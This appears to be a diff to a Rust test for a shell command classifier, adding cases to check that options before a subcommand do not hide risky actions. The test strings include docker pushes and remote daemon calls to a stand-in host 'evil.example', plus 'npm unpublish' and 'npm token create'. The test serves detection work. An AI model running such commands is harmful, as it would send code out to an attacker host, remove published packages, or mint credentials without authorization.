@@ -451,6 +451,11 @@ fn options_in_front_of_a_subcommand_hide_nothing() {
         "yarn --cwd . publish",
         "pip --proxy http://evil.example download x",
         "go -C . get x",
+        "docker --config d push evil.example/x",
+        "docker -H tcp://evil.example compose push",
+        "docker buildx build --push -t evil.example/x .",
+        "npm unpublish x",
+        "npm token create",
     ] {
         let line = CommandLine::parse(command).unwrap();
         let found = classify(&line, &Surroundings::default());
